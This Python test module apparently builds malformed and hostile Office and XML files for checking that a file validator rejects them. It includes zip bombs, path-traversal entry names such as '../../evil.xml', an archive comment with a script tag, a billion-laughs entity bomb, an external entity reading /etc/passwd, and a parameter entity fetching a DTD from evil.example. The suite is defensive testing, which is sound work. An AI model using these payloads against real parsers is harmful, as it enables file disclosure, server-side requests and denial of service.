"""Office files whose archive or XML is wrong: bombs, climbing names, cut files, entities."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.questionnaires import making
from tests.questionnaires.hostile.file import DAMAGED, KINDS, MIXED, PASSWORD, SWOLLEN, TYPE, Hostile, zipped


def office_archives() -> Iterator[Hostile]:
    """Archives that are broken, swollen or lead out."""
    main = "word/document.xml"
    good = making.office(main)
    yield Hostile("zip: plain", "a.docx", zipped({"a.txt": b"x"}), TYPE)
    yield Hostile("zip: jar", "a.docx", zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), TYPE)
    yield Hostile("zip: apk", "a.docx", zipped({"AndroidManifest.xml": b"x"}), TYPE)
    yield Hostile("zip: odt", "a.docx", zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), TYPE)
    yield Hostile("zip: epub", "a.docx", zipped({"mimetype": b"application/epub+zip"}), TYPE)
    yield Hostile("zip: no main part", "a.docx", zipped({"[Content_Types].xml": b"<Types/>", main: b"<x/>"}), TYPE)
    yield Hostile("zip: no zip", "a.docx", b"PK\x03\x04 not a zip", DAMAGED)
    yield Hostile("zip: cut", "a.docx", good[:-30], DAMAGED)
    yield Hostile("zip: no end", "a.docx", good[: len(good) // 2], DAMAGED)
    yield Hostile("zip: climbs", "a.docx", making.office(main, "../../evil.xml"), DAMAGED)
    yield Hostile("zip: from the root", "a.docx", making.office(main, "/etc/x.xml"), DAMAGED)
    yield Hostile("zip: twice in two cases", "a.docx", making.office(main, "word/Document.xml"), DAMAGED)
    wrong = bytearray(good)
    wrong[good.index(b"word/document.xml") + 18] ^= 0xFF
    yield Hostile("zip: wrong sum", "a.docx", bytes(wrong), DAMAGED)
    flagged = bytearray(good)
    for place in _all(good, b"PK\x01\x02"):
        flagged[place + 8] |= 1
    yield Hostile("zip: encrypted part", "a.docx", bytes(flagged), PASSWORD)
    for size in (100, 300):
        bomb = making.office(main, parts={"word/a.xml": b"<a>" + b" " * (size * 1_000_000) + b"</a>"})
        yield Hostile(f"zip: bomb of {size} MB", "a.docx", bomb, SWOLLEN)
    many = {f"word/p{n}.xml": b"<a/>" for n in range(3_500)}
    yield Hostile("zip: thousands of parts", "a.docx", making.office(main, parts=many), SWOLLEN)
    nested = making.office(main)
    for _ in range(3):
        nested = making.office(main, parts={"word/embeddings/x.docx": nested})
    yield Hostile("zip: one in another in another", "a.docx", nested, SWOLLEN)
    yield Hostile(
        "zip: hostile inside",
        "a.docx",
        making.office(main, parts={"word/embeddings/x.xlsx": making.office("xl/workbook.xml", "xl/vbaProject.bin")}),
        "macros",
    )
    overlapping = bytearray(good)
    places = _all(good, b"PK\x01\x02")
    overlapping[places[-1] + 42 : places[-1] + 46] = good[places[0] + 42 : places[0] + 46]
    yield Hostile("zip: two parts in one place", "a.docx", bytes(overlapping), "“a.docx”")
    with_note = io.BytesIO(good)
    with zipfile.ZipFile(with_note, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    yield Hostile("zip: with a note", "a.docx", with_note.getvalue(), MIXED)
    deep = "<a>" * 5_000 + "</a>" * 5_000
    yield Hostile("zip: deep XML", "a.docx", making.office(main, parts={main: deep}), SWOLLEN)
    yield Hostile("zip: broken XML", "a.docx", making.office(main, parts={main: "<a><b></a>"}), DAMAGED)


def _all(content: bytes, mark: bytes) -> list[int]:
    found, place = [], content.find(mark)
    while place >= 0:
        found.append(place)
        place = content.find(mark, place + 1)
    return found


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
FETCHES = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'


def entity_bombs() -> Iterator[Hostile]:
    """Document types that swell or fetch."""
    says = "document type"
    for label, head, use in (("laughs", LAUGHS, "&d;"), ("file", FETCHES, "&a;"), ("parameter", PARAMETER, "")):
        for kind, main in KINDS:
            made = making.office(main, parts={main: f"{head}<a>{use}</a>"})
            yield Hostile(f"entities {label} {kind}", f"a.{kind}", made, says)
        bom = f'{head}<bom xmlns="http://cyclonedx.org/schema/bom/1.5"><components>{use}</components></bom>'
        yield Hostile(f"entities {label} sbom", "a.xml", bom.encode(), says)
        yield Hostile(f"entities {label} page", "a.xml", f"{head}<a>{use}</a>".encode(), TYPE)
